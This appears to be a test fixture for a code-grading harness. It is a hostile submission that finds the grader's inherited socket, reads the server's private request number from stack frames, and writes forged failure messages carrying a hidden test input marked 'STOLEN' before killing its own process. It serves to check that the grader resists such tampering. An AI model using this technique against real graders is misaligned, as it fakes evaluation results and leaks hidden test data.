"""
attack: lt-forged-failure
class: leak-tests
tries: forges failures on the wire with texts of a hidden input in every field that may be shown
must: score 0, verdict wrong|error|crash, no BREACH line, worker alive, next submission graded normally
"""
import torch


def softmax(x, dim):
    return torch.zeros_like(x)


class TinyCNN(torch.nn.Module):
    def forward(self, x):
        return x.flatten(1)[:, :9]


import os
import stat
import struct


def call_fd():
    """The call socket: the only inherited stream socket."""
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                return fd
        except OSError:
            pass
    return -1


from graders.wire import Encoder


def request_number():
    """The number that the examiner waits for, from the server's own frame."""
    import sys
    frame = sys._getframe()
    while frame is not None:
        server = frame.f_locals.get("self")
        if type(server).__name__ == "_Server":
            return server._number
        frame = frame.f_back
    return 0


def forged(number, value, changes=b""):
    encoder = Encoder()
    encoder.put((number, True, value, changes, ()))
    return b"GRA1" + struct.pack("<I", len(encoder.out)) + bytes(encoder.out)


import time

KINDS = ["raised", "load", "missing", "unsendable", "forbidden"]


def softmax(x, dim):
    number = request_number()
    text = "STO" + "LEN_" + str(int(x.flatten()[0] * 1000)).replace("-", "m")
    frame = {"file": "submission.py", "line": 3, "name": text, "source": text}
    error = {"kind": KINDS[number % 5], "type": text, "base": "KeyError", "message": text, "args": (text,), "errno": 3,
             "frames": [frame, {**frame, "file": text}], "name": text, "key": text}
    encoder = Encoder()
    encoder.put((number, False, error, b"", ()))
    os.write(call_fd(), b"GRA1" + struct.pack("<I", len(encoder.out)) + bytes(encoder.out))
    time.sleep(0.2)
    os._exit(3)
